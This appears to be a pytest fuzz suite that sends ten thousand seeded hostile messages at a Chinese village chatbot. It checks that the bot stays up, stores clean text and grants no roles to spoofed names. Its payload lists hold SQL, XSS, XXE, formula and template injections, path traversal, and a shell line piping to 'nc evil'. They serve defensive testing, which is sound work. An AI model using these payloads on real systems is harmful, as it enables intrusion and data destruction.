"""Ten thousand messages of ill will through the whole turn: none raises, none is lost, and what is kept is clean.

The dice are seeded, so whatever fails here fails again.
"""

import random
import unicodedata
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta
from itertools import islice

import pytest
from sqlmodel import Session, col, select

from data.loop import Order
from data.mail import Inbox, Outbox
from data.names import MAX_NAME
from data.tables import Member, Room
from handlers.message import Heard
from handlers.take import MAX_KEPT, Outcome
from handlers.understand import Utterance, concerns
from tests.town import NOW, WEB, DemoTown

MESSAGES = 10_000
ALONE = 600  # turns that are a transaction each; the others share one by the hundred
BATCH = 100
UNSEEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}

ROOMS = ("r-shangping-1", "r-shangping-2", "r-shiwan-1", "r-rongmuao-1", "r-coordinators", "r-nowhere", "r-elsewhere")
COORDINATORS = ("p-zhouzhurong", "p-xiaonong")
OPENINGS = (
    *("", "", "", "@小门 ", "@小门\u2005", "@小门 @小门 @小门 ", "点课 ", "点课", "我想听", "我们想学", "请", "报名"),
    *(
        "待答",
        "答复 1号 ",
        "答复",
        "新农合断了还能补吗",
        "养老金怎么领",
        "取消报名",
        "菜单",
        "课表",
        "帮助",
        *("我的点单", "我的信息", "删除我的信息"),
        "通知 全镇 ",
        "通知 上坪村 ",
        "通知",
        "本群 ",
        "本群 上坪村 ",
        *("待办", "12号 派 ", "1号", "派 1号 ", "1号 1", "1号 驳回 ", "代点 上坪村 ", "撤单", "1号 撤单", "撤销"),
        *("1号到哪了", "到哪了", "我点的课到哪了", "意见1号", "意见1号到哪了", "意见1号 答复 "),
        *("订阅 ", "退订", "退订 ", "我的订阅", "标签 ", "名单", "同意 B1", "B1"),
        *("课1", "课1 改期 ", "排课 ", "到场 ", "投票 上坪村 ", "投票1", "接单", "改到 ", "#接龙\n1. "),
    ),
    *("绑定 ", "确认", "取消", "\u200b点课 ", "＠小门　报名", "「三婶：点课」\n- - - - - -\n"),
)
ATTACKS = (
    "'; DROP TABLE member; --",
    '" OR 1=1 --',
    "Robert'); DELETE FROM outbox;--",
    "<script>alert(1)</script>",
    '<img src=x onerror="fetch(`//evil`)">',
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]><l>&b;</l>',
    '<msg><appmsg><title>"]]>&xxe;</title><type>53</type></appmsg></msg>',
    "=cmd|'/C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {0.__class__.__mro__} %(x)s %s %n",
    "$(reboot) `reboot` && reboot | nc evil 1 > /dev/null",
    "../../../../etc/passwd\x00.png",
    "报名99999999999人",
    "报名-1人 报名0人 报名1e9人 报名½人 报名٣人 报名²人",
    "9" * 5000,
    "报名" + "9" * 5000 + "人",
    "绑定 " + "1" * 5000,
    "\x00\x00\x00",
    "\ud800",
    "好\udfff呀\udc80",
    "\u202e反过来\u202c\u2066里面\u2069\u200e\u200f\u061c",
    "点\u200b课\u200d 反\ufeff诈\u2060骗",
    "\u200b" * 3000,
    "👨‍👩‍👧‍👦" * 500 + "🏳️‍🌈🇨🇳🤷🏽‍♀️",
    "e" + "\u0301" * 2500,
    "﷽" * 2100,  # one character that NFKC makes eighteen of
    "ﷺ" * 2100,
    "a" * 30_000 + "!",
    "请" * 3000 + "来",
    "请" + "人" * 5000 + "来讲",
    ("请张三" * 900) + "来讲",
    "想听" * 2000,
    "我想听" + " " * 4000 + "x",
    "通知 " * 1500,
    "@" * 5000,
    "@小门" * 3000,
    "@小门\u2005" * 1200,
    "@" + "名" * 39 + "\u2005点课",
    "「" * 3000 + "」",
    "- " * 2500,
    "\n" * 4000 + "点课",
    "\t \u3000\u2003\u2028\u2029" * 300,
    "#接龙\n" + "\n".join(f"{number}. 三婶" for number in range(1500)),
    "确认\u202e",
    "((((((((((" * 300,
    "[" * 5000,
    '{"a":' * 2000,
    "\\" * 3000 + "u0000",
    "NaN",
    "null",
    "None",
    "true",
    "\x1b[2J\x1b[31m红",
    "\r\n\r\nHTTP/1.1 200 OK",
)
NAMES = (
    "",
    " ",
    "\u200b\u200b",
    "\u202e宣传委员周竹蓉",
    "小门",
    "@小门\u2005",
    "宣传委员周竹蓉",
    "名" * 5000,
    "<b onmouseover=alert(1)>三婶</b>",
    "=cmd|'/C calc'!A0",
    "'; DROP TABLE room; --",
    "三婶\x00\ud83d",
    "一\n二\t三\r四\u2028五",
    "👨‍👩‍👧‍👦" * 40,
    "\ud800\udc00",
    "a" + "\u0301" * 400,
    "\ufeff\u2066" * 100 + "露" * 3,
    "{sender_name} %s {{7*7}}",
)


def bodies(dice: random.Random) -> Iterator[str]:
    """Without end: known attacks, random bytes read in two ways, random characters, and now and then 100 kB."""
    while True:
        kind = dice.random()
        if kind < 0.5:
            yield dice.choice(ATTACKS)
        elif kind < 0.65:
            yield dice.randbytes(dice.randrange(400)).decode("utf-8", "surrogateescape")
        elif kind < 0.75:
            yield dice.randbytes(dice.randrange(400)).decode("latin-1")
        elif kind < 0.9:
            yield "".join(chr(dice.randrange(0x110000)) for _ in range(dice.randrange(60)))
        elif kind < 0.97:
            yield "".join(
                dice.choices("点课报名请来讲通知确认想听@ 小门反诈骗0123人。\u2005\n", k=dice.randrange(1, 200))
            )
        else:
            attack = dice.choice(ATTACKS)
            yield (attack * (100_000 // len(attack) + 1))[:100_000]


def hostile_messages(seed: int) -> Iterator[Heard]:
    """Strangers, residents and two coordinators, in groups and alone with the bot, some addressing it."""
    dice = random.Random(seed)
    strangers = [f"u-{number}" for number in range(500)]
    for number, body in enumerate(bodies(dice)):
        sender = dice.choice(strangers) if dice.random() < 0.97 else dice.choice(COORDINATORS)
        direct = dice.random() < 0.2
        name, room_name = (dice.choice(NAMES) if dice.random() < 0.8 else next(bodies(dice)) for _ in range(2))
        yield Heard(
            transport=WEB,
            message_id=f"h{number}",
            room_id=sender if direct else dice.choice(ROOMS),
            sender_id=sender,
            text=dice.choice(OPENINGS) + body,
            at=NOW + timedelta(seconds=2 * number),
            sender_name=name,
            room_name="" if direct else room_name,
            direct=direct,
            mentioned=not direct and dice.random() < 0.5,
        )


@dataclass
class Siege:
    """What became of the messages: their outcomes by message id."""

    town: DemoTown
    messages: list[Heard]
    outcomes: dict[str, Outcome] = field(default_factory=dict)

    def run(self) -> None:
        alone, rest = self.messages[:ALONE], self.messages[ALONE:]
        for size, part in ((1, iter(alone)), (BATCH, iter(rest))):
            while batch := list(islice(part, size)):
                self.take(batch)

    def take(self, batch: list[Heard]) -> None:
        """Some turns in one transaction."""
        with self.town.session() as session, session.begin():
            for heard in batch:
                self.gate(heard)
                self.outcomes[heard.message_id] = self.listener.take(session, heard, now=heard.at)

    def gate(self, heard: Heard) -> None:
        """What the dispatcher asks of a message before the turn."""
        concerns(Utterance(heard.text, heard.addressed))
        self.listener.router.could_call(heard.text)

    def __post_init__(self) -> None:
        self.listener = self.town.listener()


@pytest.fixture(scope="module")
def siege(town_template: DemoTown, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Siege]:
    """The ten thousand, taken once; each test looks at another side of what is left."""
    town = town_template.copy(tmp_path_factory.mktemp("siege") / "town.db")
    siege = Siege(town, list(islice(hostile_messages(seed=2026), MESSAGES)))
    siege.run()
    yield siege
    town.engine.dispose()


def test_the_messages_are_hostile_and_many(siege: Siege) -> None:
    """The guard of this file: all kinds of ill will are there, in each place, and the handlers were reached."""
    heard = siege.messages
    assert len(heard) == len(siege.outcomes) == MESSAGES
    for share in (
        [each for each in heard if each.direct],
        [each for each in heard if each.mentioned],
        [each for each in heard if not each.addressed],
    ):
        assert len(share) > 1_500
    assert sum(len(each.text) >= 100_000 for each in heard) > 100
    for needle in ("\x00", "\ud800", "\u202e", "\u200b", "DROP TABLE", "<script>", "<!ENTITY", "=cmd", "{{7*7}}"):
        assert sum(needle in each.text for each in heard) > 30, needle
        assert needle in "=cmd<!ENTITY<script>" or any(needle in each.sender_name + each.room_name for each in heard)
    with siege.town.session() as session:
        routes = Counter(session.exec(select(Inbox.route)).all())
    open_to_all = {route.name for route in siege.listener.router.routes if not route.roles}
    assert routes.keys() >= open_to_all, routes
    assert routes["order"] > 300


def test_each_addressed_message_is_kept_exactly_once_and_none_of_the_others_unanswered(siege: Siege) -> None:
    with siege.town.session() as session:
        kept = Counter(session.exec(select(Inbox.message_id)).all())
    assert set(kept.values()) == {1}
    answered = {message_id for message_id, outcome in siege.outcomes.items() if outcome is Outcome.ANSWERED}
    assert kept.keys() == answered
    assert {each.message_id for each in siege.messages if each.addressed} <= answered
    assert Outcome.SEEN not in siege.outcomes.values()


def test_names_are_kept_clean(siege: Siege) -> None:
    with siege.town.session() as session:
        members, rooms = session.exec(select(Member.name)).all(), session.exec(select(Room.name)).all()
    assert len(members) > 400
    assert any(len(name) == MAX_NAME for name in members)
    for name in (*members, *rooms):
        assert len(name) <= MAX_NAME
        assert not [each for each in name if unicodedata.category(each) in UNSEEN], ascii(name)
        assert name == name.strip()


def test_what_is_kept_and_what_is_said_can_be_shown_anywhere(siege: Siege) -> None:
    """No NUL, lone surrogate or bidi control in a stored text, and none without an end."""
    with siege.town.session() as session:
        heard, said = session.exec(select(Inbox)).all(), session.exec(select(Outbox.text)).all()
        wishes = session.exec(select(Order.wish)).all()
    assert len(heard) > 5_000
    assert len(said) > 4_000
    assert len(wishes) > 100
    for text in (*(row.text for row in heard), *said, *wishes):
        assert len(text) <= MAX_KEPT + 200
        text.encode()
        assert not set(text) & set("\x00\u202e\u2066\u2069\u200b\x1b"), ascii(text)
    assert all(row.error == "" for row in heard)


def test_nobody_gained_a_role_and_the_town_still_stands(siege: Siege, town: DemoTown) -> None:
    """Whatever they called themselves: roles, villages and groups are what they were, and people are still served."""

    def powers(session: Session) -> list[tuple[str, str]]:
        from data.tables import Role

        pairs = session.exec(select(Member.external_id, Role.kind).join(Role, col(Role.member_id) == Member.id))
        return sorted((who, str(kind)) for who, kind in pairs)

    with siege.town.session() as after, town.session() as before:
        assert powers(after) == powers(before)
        assert len(powers(after)) >= len(COORDINATORS)
    later = NOW + timedelta(days=2)
    asked = Heard(WEB, "last", "r-shangping-1", "p-liangbo", "点课 反诈骗", later, sender_name="坪顶梁伯")
    with siege.town.session() as session, session.begin():
        assert siege.listener.take(session, asked, now=later) is Outcome.ANSWERED
    with siege.town.session() as session:
        said = session.exec(select(Outbox.text).order_by(col(Outbox.id).desc())).first()
    assert said is not None
    assert "号" in said


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_a_hostile_name_is_data(town: DemoTown, name: str) -> None:
    """As a nickname and as a group's name it is shown at most; a person and a group are told by their ids."""
    listener = town.listener()
    now: datetime = NOW
    first = Heard(WEB, "n1", "r-new", "u-new", "帮助", now, sender_name=name, room_name=name, mentioned=True)
    with town.session() as session, session.begin():
        assert listener.take(session, first, now=now) is Outcome.ANSWERED
        again = replace(first, message_id="n2", text="通知 全镇 我说了算", at=now)
        assert listener.take(session, again, now=now) is Outcome.ANSWERED
    with town.session() as session:
        member = session.exec(select(Member).where(col(Member.external_id) == "u-new")).one()
        room = session.exec(select(Room).where(col(Room.external_id) == "r-new")).one()
        said = session.exec(select(Outbox).order_by(col(Outbox.id))).all()
    for kept in (member.name, room.name):
        assert len(kept) <= MAX_NAME
        assert not [each for each in kept if unicodedata.category(each) in UNSEEN]
    assert [row.mentions for row in said] == [[["u-new", member.name]]] * 2
    assert "宣传干事来办" in said[1].text
